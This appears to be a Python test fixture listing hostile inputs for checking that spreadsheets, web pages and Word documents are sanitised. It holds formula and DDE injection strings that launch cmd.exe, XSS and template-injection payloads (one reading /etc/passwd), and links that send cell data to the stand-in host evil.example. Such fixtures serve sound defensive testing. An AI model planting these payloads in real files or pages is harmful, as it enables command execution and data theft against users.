"""Texts by which a spreadsheet, a word processor or a browser would be brought to act, were they taken for more than text."""

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML("http://evil.example", "//a")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "{=1+1}",
    "#N/A",
    "safe\n=1+1",
    "safe;=1+1",
    "safe\t=1+1",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</style><script>alert(1)</script>",
    "</code></pre><a href='http://evil.example'>x</a>",
    '" onmouseover="alert(1)',
    "<svg onload=alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "{{ 7 * 7 }} {% include '/etc/passwd' %}",
    "<!--[if IE]><script src=//evil.example></script><![endif]-->",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "]]><x/>",
]
WORD = [
    '{ HYPERLINK "http://evil.example" }',
    '{ INCLUDETEXT "http://evil.example/x" }',
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    '</w:t></w:r><w:fldSimple w:instr="DDEAUTO x"/>',
    "http://evil.example",
    "\\\\evil.example\\share",
]
CONTROLS = ["a\x00b", "a\x0bb\x1f", "lone \ud800 half", "\ufffe\uffff", "bell\x07", "\x1b[31mred"]
HOSTILE = [*FORMULAS, *MARKUP, *WORD, *CONTROLS]
